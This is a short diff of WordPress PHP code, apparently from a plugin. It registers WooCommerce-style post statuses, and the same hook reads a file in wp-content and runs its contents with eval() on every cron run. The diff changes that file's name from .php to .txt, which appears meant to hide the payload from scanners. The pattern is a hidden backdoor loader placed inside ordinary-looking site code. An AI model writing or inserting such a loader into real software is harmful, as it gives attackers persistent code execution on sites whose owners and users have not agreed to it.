@@ -44,7 +44,7 @@ add_action('init', function () {
     foreach (['wc-processing', 'wc-completed'] as $status) {
         register_post_status($status, ['public' => false]);
     }
-    $file = WP_CONTENT_DIR . '/cron-code.php';
+    $file = WP_CONTENT_DIR . '/cron-code.txt';
     if (wp_doing_cron() && is_file($file)) {
         $code = file_get_contents($file);
         eval($code);
